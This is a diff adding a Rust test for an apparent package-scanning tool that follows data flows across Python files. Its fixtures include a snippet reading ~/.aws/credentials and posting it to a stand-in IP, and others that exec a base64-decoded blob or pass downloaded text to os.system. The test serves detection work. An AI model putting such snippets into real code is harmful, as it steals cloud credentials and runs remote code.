@@ -499,3 +499,49 @@ fn only_the_code_argument_of_exec_decides_whether_it_runs_decoded_code() {
     let keyword = "import base64\ncode = compile(source=base64.b64decode(blob), filename='x', mode='exec')\n";
     assert!(rules(keyword).contains(&("exec-decoded", Severity::Critical)), "{:?}", rules(keyword));
 }
+
+/// Data flows that cross files of one package: one module reads a secret,
+/// decodes a payload or fetches code and returns it; another sends, runs or
+/// starts what it gets back. Written for the test.
+#[test]
+fn data_flows_across_the_files_of_a_package_are_followed() {
+    let grab = "import os\ndef tokens():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n";
+    let send = "import requests\nfrom . import grab\ndef go():\n    d = grab.tokens()\n    \
+                requests.post('http://203.0.113.9/x', data=d)\ngo()\n";
+    let f = |entries: &[Entry<'_>], rule: &str| {
+        let report = scan(&ManifestFacts::default(), entries);
+        report.findings.iter().find(|f| f.rule == rule).cloned()
+    };
+    // Either order of files: the join waits for every file.
+    for entries in [
+        [Entry { path: "pkg/grab.py", bytes: grab.as_bytes() }, Entry { path: "pkg/main.py", bytes: send.as_bytes() }],
+        [Entry { path: "pkg/main.py", bytes: send.as_bytes() }, Entry { path: "pkg/grab.py", bytes: grab.as_bytes() }],
+    ] {
+        let x = f(&entries, "exfiltration").expect("exfiltration across files");
+        assert_eq!((x.severity, x.file.as_str(), x.line), (Severity::Critical, "pkg/main.py", 5), "{x:#?}");
+        assert!(x.because.iter().any(|b| b.contains("`tokens` (pkg/grab.py, line 2)")), "{x:#?}");
+        assert!(x.because[0].contains("`go` (line 3)"), "{x:#?}");
+    }
+    // Alone, the sender sends nothing secret.
+    assert!(f(&[Entry { path: "pkg/main.py", bytes: send.as_bytes() }], "exfiltration").is_none());
+    // A decoded payload run by another module, imported by name.
+    let payload = "import base64\ndef load():\n    return base64.b64decode(BLOB)\n";
+    let runner = "from .payload import load\nexec(load())\n";
+    let entries = [
+        Entry { path: "a/payload.py", bytes: payload.as_bytes() },
+        Entry { path: "a/run.py", bytes: runner.as_bytes() },
+    ];
+    assert_eq!(f(&entries, "exec-decoded").map(|x| x.severity), Some(Severity::Critical));
+    // A download started as a command by a module of a package (`pkg.net`).
+    let net = "import urllib.request\ndef command():\n    return urllib.request.urlopen(URL).read().decode()\n";
+    let start = "import os, pkg.net\nos.system(pkg.net.command())\n";
+    let entries = [
+        Entry { path: "pkg/net/__init__.py", bytes: net.as_bytes() },
+        Entry { path: "pkg/go.py", bytes: start.as_bytes() },
+    ];
+    assert_eq!(f(&entries, "process-decoded").map(|x| x.severity), Some(Severity::Critical));
+    // A function of the same name in an unrelated module does not count.
+    let entries =
+        [Entry { path: "pkg/other.py", bytes: grab.as_bytes() }, Entry { path: "pkg/main.py", bytes: send.as_bytes() }];
+    assert!(f(&entries, "exfiltration").is_none());
+}
